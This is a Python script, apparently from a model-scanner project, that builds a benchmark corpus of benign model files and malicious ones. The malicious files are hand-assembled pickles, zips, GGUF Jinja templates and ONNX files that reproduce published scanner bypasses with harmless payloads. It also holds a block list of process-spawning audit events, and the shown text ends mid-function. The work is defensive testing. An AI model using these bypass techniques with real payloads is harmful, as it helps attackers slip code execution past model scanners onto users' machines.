#!/usr/bin/env python3
"""Build the model-scanner corpus: benign models written by the real libraries, and malicious
files covering the published bypasses of picklescan, modelscan and fickling (harmless payloads).

    python3 bench/model_corpus.py [--out /tmp/model-bench/corpus] [--force] [--verify]
                                  [--big /tmp/model-bench/big] [--big-gb 2.5]

Layout under --out, one label per file in `labels.json`:
  benign/            written by torch, safetensors, onnx, keras, numpy, joblib, transformers
  benign-custom/     benign, but the pickle imports classes outside any tensor allowlist (a whole
                     `nn.Module` saved by `torch.save`, scikit-learn estimators in joblib)
  malicious/         one file (or one model folder) per technique
Each label: {"label": benign|malicious, "category", "technique", "container", "note"}; with
--verify also "fires": the first dangerous audit event the file's own loader raised.

The benign files need the libraries, so that part runs under $ML_PYTHON (default
/tmp/bulwark-corpus/ml-venv/bin/python: torch 2.1, keras 2.14, transformers 4.36, ...), this same
file re-entered as `model_corpus.py _libs DIR`. The malicious raw pickles are assembled here,
opcode by opcode, since `pickle` cannot express most of the tricks (memoized STACK_GLOBAL
operands, extension-registry codes, pickles appended after a STOP).

Payloads are harmless by construction: `os.system('true')`, `print(...)`,
`webbrowser.open('about:blank')`, reading /etc/passwd into a tensor. --verify loads every file
with its own loader (torch.load, np.load, joblib.load, keras, jinja2, ...) under a Python audit
hook that *blocks* process creation and browser launches and records what the load reached, so
the corpus proves each malicious file is live without running any payload.

--big writes the multi-gigabyte files for the speed benchmark (a torch zip checkpoint of random
tensors and a safetensors file), never inside the repository.

Idempotent: an existing file is kept; --force rebuilds the corpus directory from scratch.
"""
import argparse
import io
import json
import marshal
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

CORPUS_VERSION = 1
ML_PYTHON = Path(os.environ.get("ML_PYTHON", "/tmp/bulwark-corpus/ml-venv/bin/python"))
CMD = "true"
PY = "print('bulwark-bench payload')"


# --------------------------------------------------------------------------------------------
# A small pickle assembler.
# --------------------------------------------------------------------------------------------

class Asm:
    """Pickle opcodes in the order we choose; `bytes(asm)` is the pickle."""

    def __init__(self, proto=2):
        self.b = bytearray()
        if proto >= 2:
            self.b += bytes([0x80, proto])

    def __bytes__(self):
        return bytes(self.b)

    def op(self, raw):
        self.b += raw
        return self

    def s(self, text):  # BINUNICODE
        data = text.encode()
        return self.op(b"X" + struct.pack("<I", len(data)) + data)

    def by(self, data):  # BINBYTES (protocol 3+)
        return self.op(b"B" + struct.pack("<I", len(data)) + data)

    def int(self, n):  # BININT
        return self.op(b"J" + struct.pack("<i", n))

    def glob(self, module, name):  # GLOBAL: both operands inline
        return self.op(b"c" + f"{module}\n{name}\n".encode())

    def sglob(self, module, name):  # STACK_GLOBAL: operands from the stack
        return self.s(module).s(name).op(b"\x93")

    def mark(self):
        return self.op(b"(")

    def tuple(self):
        return self.op(b"t")

    def empty_tuple(self):
        return self.op(b")")

    def empty_dict(self):
        return self.op(b"}")

    def reduce(self):
        return self.op(b"R")

    def pop(self):
        return self.op(b"0")

    def memoize(self):
        return self.op(b"\x94")

    def binget(self, i):
        return self.op(b"h" + bytes([i]))

    def stop(self):
        return self.op(b".")

    def args(self, *values):
        """MARK value... TUPLE; a value is str, int, bytes, {} or a callable emitting opcodes."""
        self.mark()
        for v in values:
            if isinstance(v, str):
                self.s(v)
            elif isinstance(v, bool) or v is None:
                raise TypeError(v)
            elif isinstance(v, int):
                self.int(v)
            elif isinstance(v, bytes):
                self.by(v)
            elif isinstance(v, dict) and not v:
                self.empty_dict()
            else:
                v(self)
        return self.tuple()

    def call(self, module, name, *values):
        return self.glob(module, name).args(*values).reduce()


def call(module, name, *values, proto=2):
    return bytes(Asm(proto).call(module, name, *values).stop())


def obj_on_stack(module, name):
    """Push a module attribute: `logging.os` is the os module, reached without naming `os`."""
    return lambda a: a.glob(module, name)


def raw_pickles():
    """(file name, technique, note, pickle bytes)."""
    out = []

    def add(name, technique, note, data):
        out.append((name, technique, note, data))

    add("reduce_os_system.pkl", "reduce-os-system", "GLOBAL os.system + REDUCE",
        call("os", "system", CMD))
    add("reduce_posix_system.pkl", "reduce-posix-system", "posix.system, as pickle writes os.system on Linux",
        call("posix", "system", CMD))
    add("reduce_nt_system.pkl", "reduce-nt-system",
        "nt.system, as pickle writes os.system on Windows (live on Windows only)",
        call("nt", "system", CMD))
    add("proto0_inst_os_system.pkl", "inst-os-system", "protocol 0 INST opcode (no GLOBAL, no REDUCE)",
        b"(S'" + CMD.encode() + b"'\nios\nsystem\n.")
    a = Asm(2).mark().glob("os", "system").s(CMD).op(b"o").stop()
    add("obj_os_system.pkl", "obj-os-system", "OBJ opcode calls the class/callable under MARK", bytes(a))
    add("builtins_exec.pkl", "builtins-exec", "builtins.exec of Python source", call("builtins", "exec", PY))
    add("builtins_eval.pkl", "builtins-eval", "builtins.eval of Python source", call("builtins", "eval", PY))
    add("subprocess_popen.pkl", "subprocess-popen", "subprocess.Popen(['true'])",
        bytes(Asm(2).glob("subprocess", "Popen").args(lambda a: a.args(CMD)).reduce().stop()))
    add("runpy_run_code.pkl", "runpy-run-code", "runpy._run_code(source, {}) execs the source",
        call("runpy", "_run_code", PY, {}))
    # picklescan (< 0.0.31) resolved STACK_GLOBAL operands from the preceding string opcodes
    # only; operands fetched from the memo with BINGET were not seen.
    a = Asm(4).s("os").memoize().s("system").memoize().pop().pop()
    a.binget(0).binget(1).op(b"\x93").args(CMD).reduce().stop()
    add("stack_global_memo.pkl", "stack-global-memo", "STACK_GLOBAL operands from the memo (BINGET)", bytes(a))
    # The extension registry: copyreg.add_extension maps a code to (module, name); EXT1/EXT2
    # then import it without any GLOBAL naming os.system.
    for op, code, fmt, label, module in [(b"\x82", 0xF0, "<B", "ext1", "os"),
                                         (b"\x83", 0x1234, "<H", "ext2", "posix")]:
        a = Asm(2).call("copyreg", "add_extension", module, "system", code).pop()
        a.op(op + struct.pack(fmt, code)).args(CMD).reduce().stop()
        add(f"{label}_registry.pkl", f"{label}-extension-registry",
            f"copyreg.add_extension then {label.upper()} {code:#x} resolves to {module}.system", bytes(a))
    a = Asm(2).call("_operator", "attrgetter", "system")
    a.args(obj_on_stack("logging", "os")).reduce().args(CMD).reduce().stop()
    add("operator_attrgetter.pkl", "operator-attrgetter",
        "_operator.attrgetter('system')(logging.os)('true')", bytes(a))
    a = Asm(2).call("operator", "methodcaller", "system", CMD)
    a.args(obj_on_stack("tempfile", "_os")).reduce().stop()
    add("operator_methodcaller.pkl", "operator-methodcaller",
        "operator.methodcaller('system', 'true')(tempfile._os)", bytes(a))
    a = Asm(2).glob("builtins", "getattr")
    a.args(lambda x: x.call("builtins", "__import__", "os"), "system").reduce().args(CMD).reduce().stop()
    add("getattr_import.pkl", "builtins-getattr-import", "getattr(__import__('os'), 'system')('true')", bytes(a))
    a = Asm(2).call("operator", "attrgetter", "system")
    a.args(lambda x: x.call("importlib", "import_module", "os")).reduce().args(CMD).reduce().stop()
    add("importlib_import_module.pkl", "importlib-import-module",
        "attrgetter('system')(importlib.import_module('os'))('true')", bytes(a))
    a = Asm(2).call("pkgutil", "resolve_name", "os:system").args(CMD).reduce().stop()
    add("pkgutil_resolve_name.pkl", "pkgutil-resolve-name", "pkgutil.resolve_name('os:system')('true')", bytes(a))
    a = Asm(2).call("pydoc", "locate", "os.system").args(CMD).reduce().stop()
    add("pydoc_locate.pkl", "pydoc-locate", "pydoc.locate('os.system')('true')", bytes(a))
    a = Asm(2).call("inspect", "getattr_static", obj_on_stack("logging", "os"), "system").args(CMD).reduce().stop()
    add("inspect_getattr_static.pkl", "inspect-getattr-static",
        "inspect.getattr_static(logging.os, 'system')('true')", bytes(a))
    a = Asm(2).glob("types", "FunctionType")
    a.args(lambda x: x.call("codeop", "compile_command", PY), {}).reduce().empty_tuple().reduce().stop()
    add("codeop_compile_command.pkl", "codeop-compile-command",
        "types.FunctionType(codeop.compile_command(src), {})()", bytes(a))
    add("pty_spawn.pkl", "pty-spawn", "pty.spawn('true')", call("pty", "spawn", CMD))
    inner = call("os", "system", CMD)
    add("nested_pickle_loads.pkl", "nested-pickle-loads", "pickle.loads(<a pickle calling os.system>)",
        call("pickle", "loads", inner, proto=3))
    a = Asm(3).glob("types", "FunctionType")
    a.args(lambda x: x.call("marshal", "loads", marshal.dumps(compile(PY, "<bench>", "exec"))), {})
    a.reduce().empty_tuple().reduce().stop()
    add("marshal_function.pkl", "marshal-code-object",
        "types.FunctionType(marshal.loads(<code>), {})() (Python 3.11 bytecode)", bytes(a))
    add("appended_after_benign.pkl", "appended-pickle",
        "a benign pickle, STOP, then a second pickle calling os.system (read by stream loaders)",
        pickle.dumps({"weights": [0.5, 1.5]}, protocol=2) + call("os", "system", CMD))
    add("webbrowser_open.pkl", "webbrowser-open",
        "webbrowser.open('about:blank') (dormant where no browser is installed)",
        call("webbrowser", "open", "about:blank"))
    add("cprofile_run.pkl", "cprofile-run", "cProfile.run(source) execs the source", call("cProfile", "run", PY))
    a = Asm(2).call("timeit", "timeit", PY, "pass", obj_on_stack("time", "perf_counter"), 1).stop()
    add("timeit_timeit.pkl", "timeit-timeit", "timeit.timeit(source, number=1) execs the source", bytes(a))
    add("checkpoint.model", "unusual-extension",
        "a raw os.system pickle under an extension no scanner lists (torch.load reads any name)",
        call("os", "system", CMD))
    return out


# --------------------------------------------------------------------------------------------
# Containers written by hand: zip with edited headers, tar, npy, gguf, safetensors.
# --------------------------------------------------------------------------------------------

def stored_zip(entries):
    """A stored (uncompressed) zip from entries (name, data, opts); opts may set `cd_name` (the
    central directory's name differs from the local header's), `flags` (general-purpose bits in
    both headers) and `in_cd=False` (the member exists only as a local header)."""
    out, central, count = bytearray(), bytearray(), 0
    for name, data, opts in entries:
        local_name = name.encode()
        cd_name = opts.get("cd_name", name).encode()
        flags = opts.get("flags", 0)
        crc = zlib.crc32(data)
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 0, 0, 0x21, crc, len(data), len(data),
                           len(local_name), 0) + local_name + data
        if opts.get("in_cd", True):
            count += 1
            central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, 0, 0, 0x21, crc,
                                   len(data), len(data), len(cd_name), 0, 0, 0, 0, 0, offset) + cd_name
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), cd_offset, 0)
    return bytes(out)


def zip_members(path):
    with zipfile.ZipFile(path) as z:
        return [(i.filename, z.read(i.filename)) for i in z.infolist()]


def npy(descr, shape, body):
    """An .npy (format 1.0): magic, header padded to 64 bytes, then the data."""
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape!r}, }}"
    header += " " * (-(10 + len(header) + 1) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + body


def npy_object(pickle_bytes):
    """An .npy of dtype object: the header, then the pickle np.load(allow_pickle=True) reads."""
    return npy("|O", (1,), pickle_bytes)


def gguf(kv, tensors):
    """A GGUF v3 file: metadata `kv` ({key: str|int}) and F32 `tensors` ({name: [floats]})."""
    def s(text):
        data = text.encode()
        return struct.pack("<Q", len(data)) + data

    out = bytearray(b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(kv)))
    for key, value in kv.items():
        out += s(key)
        if isinstance(value, str):
            out += struct.pack("<I", 8) + s(value)
        else:
            out += struct.pack("<II", 4, value)
    offset, blobs = 0, bytearray()
    for name, values in tensors.items():
        out += s(name) + struct.pack("<IQIQ", 1, len(values), 0, offset)
        blob = struct.pack(f"<{len(values)}f", *values)
        blobs += blob + b"\0" * (-len(blob) % 32)
        offset = len(blobs)
    out += b"\0" * (-len(out) % 32)
    return bytes(out + blobs)


def safetensors_bytes(header, data):
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + data


# Server-side template injection as in CVE-2024-34359 (llama-cpp-python rendered the GGUF chat
# template in a non-sandboxed Jinja environment). Harmless command.
JINJA_PAYLOAD = ("{% for m in messages %}{{ m['content'] }}{% endfor %}"
                 "{{ self.__init__.__globals__.__builtins__.__import__('os').system('true') }}")
JINJA_BENIGN = ("{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}</s>{% endfor %}"
                "{% if add_generation_prompt %}<|assistant|>{% endif %}")


# --------------------------------------------------------------------------------------------
# The part that needs the ML libraries: run under ML_PYTHON as `model_corpus.py _libs DIR`.
# --------------------------------------------------------------------------------------------

class Payload:
    """Pickled by the real libraries as `posix.system('true')`."""

    def __reduce__(self):
        return (os.system, (CMD,))


def libs_main(root):
    """Write the library-made files under root; print their labels as one JSON line. A file
    whose writer fails is removed, so that a rerun (which keeps existing files) redoes it."""
    current = {}
    try:
        return libs_write(Path(root), current)
    except BaseException:
        if (path := current.get("path")) is not None and path.exists():
            path.unlink()
        raise


def libs_write(root, current):
    import numpy as np
    import torch
    from torch import nn

    labels = {}

    def want(rel, label, category, technique, container, note=""):
        labels[rel] = dict(label=label, category=category, technique=technique,
                           container=container, note=note)
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        current["path"] = path
        return None if path.exists() else path

    torch.manual_seed(0)

    class TinyNet(nn.Module):
        def __init__(self):
            super().__init__()
            self.fc1 = nn.Linear(8, 16)
            self.fc2 = nn.Linear(16, 4)

        def forward(self, x):
            return self.fc2(torch.relu(self.fc1(x)))

    TinyNet.__module__, TinyNet.__qualname__ = "bench_models", "TinyNet"  # a user's own module
    sys.modules.setdefault("bench_models", type(sys)("bench_models")).TinyNet = TinyNet
    net = TinyNet().eval()
    sd = net.state_dict()

    if p := want("benign/torch_state_dict.pt", "benign", "benign", "torch-state-dict", "torch-zip"):
        torch.save(sd, p)
    if p := want("benign/torch_state_dict_legacy.pt", "benign", "benign", "torch-state-dict", "torch-legacy",
                 "_use_new_zipfile_serialization=False"):
        torch.save(sd, p, _use_new_zipfile_serialization=False)
    if p := want("benign/torch_checkpoint.pth", "benign", "benign", "torch-checkpoint", "torch-zip",
                 "state dict + optimizer state + epoch, as training loops save"):
        opt = torch.optim.SGD(net.parameters(), lr=0.1, momentum=0.9)
        net(torch.randn(2, 8)).sum().backward()
        opt.step()
        torch.save({"model": net.state_dict(), "optimizer": opt.state_dict(), "epoch": 3}, p)
    if p := want("benign-custom/torch_full_module_custom.pt", "benign", "benign-custom", "torch-full-module",
                 "torch-zip", "torch.save(model): pickles the user's class bench_models.TinyNet"):
        torch.save(net, p)
    if p := want("benign-custom/torch_full_module_sequential.pt", "benign", "benign-custom",
                 "torch-full-module", "torch-zip", "torch.save(nn.Sequential(...)): torch.nn classes"):
        torch.save(nn.Sequential(nn.Linear(4, 4), nn.ReLU(), nn.Linear(4, 2)), p)
    if p := want("benign/torchscript.pt", "benign", "benign", "torchscript", "torchscript-zip"):
        torch.jit.save(torch.jit.script(net), p)
    if p := want("benign/model.safetensors", "benign", "benign", "safetensors", "safetensors"):
        from safetensors.torch import save_file
        save_file({k: v.contiguous() for k, v in sd.items()}, p, metadata={"format": "pt"})
    if p := want("benign/model.onnx", "benign", "benign", "onnx", "onnx"):
        torch.onnx.export(net, torch.randn(1, 8), str(p), input_names=["x"], output_names=["y"])
    if p := want("benign/array_f32.npy", "benign", "benign", "npy", "npy"):
        np.save(p, np.arange(64, dtype=np.float32).reshape(8, 8))
    if p := want("benign/array_object.npy", "benign", "benign", "npy-object", "npy",
                 "dtype=object: a pickle of numpy's own reconstructors and builtins"):
        np.save(p, np.array([{"a": 1}, "text", [1, 2]], dtype=object), allow_pickle=True)
    if p := want("benign/arrays.npz", "benign", "benign", "npz", "npz"):
        np.savez(p, w=np.ones((4, 4), np.float32), b=np.zeros(4, np.int64))
    if p := want("benign/arrays_compressed_object.npz", "benign", "benign", "npz-object", "npz",
                 "savez_compressed with one object array"):
        np.savez_compressed(p, w=np.ones(3), meta=np.array([{"name": "tiny"}], dtype=object))
    if p := want("benign/plain_dict_p2.pkl", "benign", "benign", "pickle-builtins", "pickle",
                 "dict/list/tuple/float at protocol 2"):
        p.write_bytes(pickle.dumps({"lr": 0.1, "layers": [8, 16, 4], "name": "tiny", "t": (1, 2)}, protocol=2))
    if p := want("benign/ordered_dict_p5.pkl", "benign", "benign", "pickle-builtins", "pickle",
                 "collections.OrderedDict and bytes at protocol 5"):
        import collections
        p.write_bytes(pickle.dumps(collections.OrderedDict(a=b"\0\1", b=[1.5, None, True]), protocol=5))

    try:
        import joblib
        from sklearn.linear_model import LogisticRegression
        from sklearn.pipeline import make_pipeline
        from sklearn.preprocessing import StandardScaler
        x = np.random.RandomState(0).randn(40, 3)
        y = (x[:, 0] > 0).astype(int)
        model = make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y)
        if p := want("benign-custom/sklearn_pipeline.joblib", "benign", "benign-custom", "joblib-sklearn",
                     "joblib", "scikit-learn Pipeline(StandardScaler, LogisticRegression)"):
            joblib.dump(model, p)
        if p := want("benign-custom/sklearn_pipeline_z.joblib", "benign", "benign-custom", "joblib-sklearn",
                     "joblib-zlib", "the same, compress=3 (zlib)"):
            joblib.dump(model, p, compress=3)
        if p := want("benign/joblib_arrays.joblib", "benign", "benign", "joblib-arrays", "joblib",
                     "dict of numpy arrays"):
            joblib.dump({"w": np.ones((3, 3)), "b": np.zeros(3)}, p)
        if p := want("malicious/joblib_payload.joblib", "malicious", "malicious", "joblib-payload", "joblib",
                     "joblib.dump of an object reducing to posix.system"):
            joblib.dump({"w": np.ones(2), "hook": Payload()}, p)
    except ImportError as e:  # scikit-learn is optional in the ml venv
        print(f"note: joblib/sklearn part skipped: {e}", file=sys.stderr)

    # Torch containers carrying the payload.
    if p := want("malicious/torch_zip_payload.pt", "malicious", "malicious", "torch-zip-data-pkl", "torch-zip",
                 "torch.save of a state dict plus an object reducing to posix.system"):
        torch.save({"state_dict": sd, "extra": Payload()}, p)
    if p := want("malicious/hf-torch-bin/pytorch_model.bin", "malicious", "malicious", "torch-zip-data-pkl",
                 "torch-zip", "the same under the Hugging Face file name pytorch_model.bin"):
        torch.save({"state_dict": sd, "extra": Payload()}, p)
    if p := want("malicious/torch_legacy_payload.pt", "malicious", "malicious", "torch-legacy-payload",
                 "torch-legacy", "_use_new_zipfile_serialization=False: magic, protocol, sys_info, object"):
        torch.save({"state_dict": sd, "extra": Payload()}, p, _use_new_zipfile_serialization=False)
    scripted = root / "benign/torchscript.pt"
    if p := want("malicious/torchscript_constants.pt", "malicious", "malicious", "torchscript-constants-pkl",
                 "torchscript-zip",
                 "a TorchScript archive whose constants.pkl calls os.system; dormant in torch.jit.load "
                 "(its restricted unpickler rejects the global), live for any plain unpickler"):
        members = [(n, call("os", "system", CMD) if n.endswith("/constants.pkl") else d, {})
                   for n, d in zip_members(scripted)]
        p.write_bytes(stored_zip(members))

    # Transformers tiny model from a config (no download).
    from transformers import BertConfig, BertModel
    cfg = BertConfig(vocab_size=99, hidden_size=32, num_hidden_layers=2, num_attention_heads=2,
                     intermediate_size=37, max_position_embeddings=64)
    for safe, sub in [(True, "hf-tiny-bert-safetensors"), (False, "hf-tiny-bert-bin")]:
        d = root / "benign" / sub
        if not (d / "config.json").exists():
            torch.manual_seed(0)
            BertModel(cfg).save_pretrained(d, safe_serialization=safe)
        for f in sorted(d.iterdir()):
            want(f"benign/{sub}/{f.name}", "benign", "benign", "hf-save-pretrained",
                 "safetensors" if f.suffix == ".safetensors" else "torch-zip" if f.suffix == ".bin" else "json",
                 f"transformers save_pretrained(safe_serialization={safe})")
    d = root / "malicious/hf-auto-map"
    if p := want("malicious/hf-auto-map/config.json", "malicious", "malicious", "hf-auto-map", "json",
                 "config.json auto_map to a modeling file in the repo: code runs with trust_remote_code"):
        config = cfg.to_dict()
        config["architectures"] = ["BenchModel"]
        config["auto_map"] = {"AutoConfig": "configuration_bench.BenchConfig",
                              "AutoModel": "modeling_bench.BenchModel"}
        config["model_type"] = "bench"
        p.write_text(json.dumps(config, indent=2) + "\n")
        (d / "configuration_bench.py").write_text(
            "from transformers import PretrainedConfig\n\n"
            "print('bulwark-bench payload: remote code imported')\n\n\n"
            "class BenchConfig(PretrainedConfig):\n    model_type = 'bench'\n")
        (d / "modeling_bench.py").write_text(
            "import torch\nfrom transformers import PreTrainedModel\n\n"
            "from .configuration_bench import BenchConfig\n\n\n"
            "class BenchModel(PreTrainedModel):\n    config_class = BenchConfig\n\n"
            "    def __init__(self, config):\n        super().__init__(config)\n"
            "        self.w = torch.nn.Linear(2, 2)\n")

    # ONNX: an initializer whose external data points outside the model folder.
    import onnx
    from onnx import TensorProto, helper
    if p := want("malicious/onnx_external_traversal.onnx", "malicious", "malicious", "onnx-external-data-traversal",
                 "onnx", "initializer data_location=EXTERNAL, location ../../etc/passwd style traversal "
                 "(deep enough to reach /etc/passwd from any folder)"):
        t = TensorProto()
        t.name, t.data_type = "W", TensorProto.UINT8
        t.dims.extend([16])
        t.data_location = TensorProto.EXTERNAL
        for k, v in [("location", "../" * 12 + "etc/passwd"), ("offset", "0"), ("length", "16")]:
            e = t.external_data.add()
            e.key, e.value = k, v
        graph = helper.make_graph([helper.make_node("Identity", ["W"], ["y"])], "bench", [],
                                  [helper.make_tensor_value_info("y", TensorProto.UINT8, [16])], [t])
        model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
        p.write_bytes(model.SerializeToString())
    if p := want("benign/onnx_external_data/model.onnx", "benign", "benign", "onnx-external-data", "onnx",
                 "weights in a sibling file, as onnx.save(save_as_external_data=True) writes"):
        m = onnx.load(str(root / "benign/model.onnx"))
        onnx.save_model(m, str(p), save_as_external_data=True, all_tensors_to_one_file=True,
                        location="weights.bin", size_threshold=0)
        labels["benign/onnx_external_data/weights.bin"] = dict(
            label="benign", category="benign", technique="onnx-external-data", container="raw",
            note="the external weights of model.onnx")

    # Keras (TF 2.14): plain models and Lambda layers (marshalled bytecode in the config).
    import keras
    plain = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3, activation="relu"), keras.layers.Dense(1)])
    lam = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3),
                            keras.layers.Lambda(lambda x: x * 2.0), keras.layers.Dense(1)])
    for rel, model, lab, tech, note in [
        ("benign/keras_model.keras", plain, "benign", "keras-v3", "model.save('.keras')"),
        ("benign/keras_model.h5", plain, "benign", "keras-h5", "model.save('.h5')"),
        ("malicious/keras_lambda.keras", lam, "malicious", "keras-lambda",
         "Lambda layer: marshalled Python bytecode runs when loaded with safe_mode=False"),
        ("malicious/keras_lambda.h5", lam, "malicious", "keras-lambda-h5",
         "Lambda layer in a legacy HDF5 model (no safe_mode there)"),
    ]:
        if p := want(rel, lab, lab, tech, "keras" if rel.endswith(".keras") else "hdf5", note):
            model.save(p)
    print(json.dumps(labels))


# --------------------------------------------------------------------------------------------
# The part built with the standard library only.
# --------------------------------------------------------------------------------------------

def stdlib_files(root):
    """Write the hand-made files; return their labels."""
    labels = {}

    def put(rel, data, label, technique, container, note=""):
        labels[rel] = dict(label=label, category=label, technique=technique, container=container, note=note)
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if not path.exists():
            path.write_bytes(data)

    for name, technique, note, data in raw_pickles():
        put(f"malicious/{name}", data, "malicious", technique, "pickle", note)

    payload = call("os", "system", CMD)
    put("malicious/npy_object_payload.npy", npy_object(payload), "malicious", "npy-object-payload", "npy",
        "an object-dtype .npy whose pickle calls os.system (np.load(allow_pickle=True))")
    npz = io.BytesIO()
    with zipfile.ZipFile(npz, "w") as z:
        z.writestr("w.npy", npy("<f4", (2,), struct.pack("<2f", 1, 2)))
        z.writestr("hook.npy", npy_object(payload))
    put("malicious/npz_payload.npz", npz.getvalue(), "malicious", "npz-payload", "npz",
        "an .npz member that is an object .npy calling os.system")

    # Zip tricks on a torch archive, built around the library-made malicious checkpoint.
    src = root / "malicious/torch_zip_payload.pt"
    if src.exists():
        members = zip_members(src)
        pkl = next(n for n, _ in members if n.endswith("/data.pkl"))
        benign = [(n, d, {}) for n, d in members if n != pkl]
        malicious = dict(members)[pkl]
        put("malicious/zip_local_header_only.pt",
            stored_zip([(pkl, pickle.dumps({}, protocol=2), {})] + benign
                       + [(pkl.replace("data.pkl", "hidden.pkl"), malicious, {"in_cd": False})]),
            "malicious", "zip-local-header-only", "torch-zip",
            "a payload pickle present only as a local header (central directory edited out): "
            "readers that walk local headers see it, central-directory readers do not")
        put("malicious/zip_name_mismatch.pt",
            stored_zip([(pkl[:-1] + "x", malicious, {"cd_name": pkl})] + benign),
            "malicious", "zip-name-mismatch",
            "torch-zip", "local header names data.pkx, central directory data.pkl (CVE-2025-1944): "
            "Python's zipfile refuses, torch.load reads the central directory")
        put("malicious/zip_flag_bits.pt",
            stored_zip([(pkl, malicious, {"flags": 0x0800 | 0x0002 | 0x0004})] + benign),
            "malicious", "zip-flag-bits", "torch-zip",
            "general-purpose flag bits flipped on data.pkl (CVE-2025-1945 style)")
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w") as z:
            z.writestr("model/pytorch_model.pt", src.read_bytes())
            z.writestr("model/README.md", "a model\n")
        put("malicious/zip_in_zip.zip", inner.getvalue(), "malicious", "zip-in-zip", "zip",
            "a zip holding the malicious torch checkpoint")

    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data in [("sys_info", pickle.dumps({"little_endian": True}, protocol=2)),
                           ("storages", payload), ("tensors", pickle.dumps(0, protocol=2)),
                           ("pickle", pickle.dumps({}, protocol=2))]:
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 0
            t.addfile(info, io.BytesIO(data))
    put("malicious/torch_legacy_tar.pt", tar.getvalue(), "malicious", "torch-legacy-tar", "tar",
        "the pre-1.0 torch tar format: its `storages` pickle calls os.system (torch.load still reads it)")

    put("malicious/safetensors_overlap.safetensors",
        safetensors_bytes({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                           "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}, bytes(24)),
        "malicious", "safetensors-overlapping-offsets", "safetensors",
        "two tensors whose data_offsets overlap (aliasing; rejected by the safetensors library)")
    put("malicious/gguf_jinja_template.gguf",
        gguf({"general.architecture": "llama", "general.name": "bench", "general.alignment": 32,
              "tokenizer.chat_template": JINJA_PAYLOAD}, {"w": [0.0, 1.0, 2.0, 3.0]}),
        "malicious", "gguf-jinja-ssti", "gguf",
        "chat template reaching os.system through __globals__ (CVE-2024-34359 style)")
    put("benign/gguf_chat_template.gguf",
        gguf({"general.architecture": "llama", "general.name": "bench", "general.alignment": 32,
              "tokenizer.chat_template": JINJA_BENIGN}, {"w": [0.0, 1.0, 2.0, 3.0]}),
        "benign", "gguf", "gguf", "an ordinary chat template")
    return labels


# --------------------------------------------------------------------------------------------
# --verify: load every file with its own loader under an audit hook (runs under ML_PYTHON).
# --------------------------------------------------------------------------------------------

BLOCK = ("os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "os.forkpty", "subprocess.Popen",
         "webbrowser.open", "pty.spawn")
RECORD = BLOCK + ("exec", "compile", "marshal.loads", "code.__new__", "open")


def verify_main(root, labels_path):
    """Load each file; record the first dangerous event its load reached. Payloads are blocked."""
    import tempfile

    import numpy as np
    import torch

    root = Path(root)
    labels = json.loads(Path(labels_path).read_text())
    state = {"armed": False, "events": []}

    libs = tuple({sys.prefix, sys.base_prefix})

    def hook(event, args):
        if not state["armed"] or not event.startswith(RECORD):
            return
        caller = sys._getframe(1).f_code.co_filename
        if event == "open":
            if os.path.realpath(str(args[0])) != "/etc/passwd":
                return
            event = "open /etc/passwd"
        elif event == "exec":
            # Importing a library module execs its code too: only code from elsewhere counts.
            origin = getattr(args[0], "co_filename", "")
            if origin.startswith(libs) or origin.startswith("<frozen") or state.get("skip_exec"):
                return
        elif event == "compile":
            if "bulwark-bench" not in str(args[0]):
                return
        elif event == "marshal.loads" and caller.startswith("<frozen"):
            return  # a .pyc being imported
        elif event == "code.__new__" and caller.startswith(libs):
            return
        state["events"].append(event)
        if event.startswith(BLOCK):
            raise RuntimeError(f"bulwark-bench: blocked {event}")

    sys.addaudithook(hook)

    def load(rel, info):
        path = root / rel
        c = info["container"]
        if c in ("pickle", "raw") and info["technique"] == "appended-pickle":
            with open(path, "rb") as f:
                while f.peek(1):
                    pickle.load(f)
        elif c == "pickle":
            torch.load(path) if info["technique"] == "unusual-extension" else pickle.loads(path.read_bytes())
        elif c in ("torch-zip", "torch-legacy", "tar"):
            torch.load(path, map_location="cpu")
        elif c == "torchscript-zip":
            torch.jit.load(path)
        elif c in ("npy", "npz"):
            data = np.load(path, allow_pickle=True)
            if c == "npz":
                for k in data.files:
                    data[k]
        elif c.startswith("joblib"):
            import joblib
            joblib.load(path)
        elif c == "zip":
            with zipfile.ZipFile(path) as z, tempfile.TemporaryDirectory() as tmp:
                z.extractall(tmp)
                for f in Path(tmp).rglob("*.pt"):
                    torch.load(f)
        elif c == "safetensors":
            from safetensors.torch import load_file
            load_file(path)
        elif c == "onnx":
            import onnx
            import onnxruntime
            try:
                onnx.load(str(path))
            finally:  # what serves the model reads external data on its own
                onnxruntime.InferenceSession(str(path), providers=["CPUExecutionProvider"])
        elif c in ("keras", "hdf5"):
            import keras
            state["skip_exec"] = True  # TensorFlow's autograph execs generated code while building
            keras.models.load_model(path, safe_mode=False) if c == "keras" else keras.models.load_model(path)
        elif c == "gguf":
            import jinja2
            state["skip_exec"] = True  # Jinja compiles every template to Python
            template = read_gguf_kv(path).get("tokenizer.chat_template", "")
            jinja2.Environment().from_string(template).render(
                messages=[{"role": "user", "content": "hi"}], add_generation_prompt=True)
        elif c == "json" and info["technique"] == "hf-auto-map":
            from transformers import AutoModel
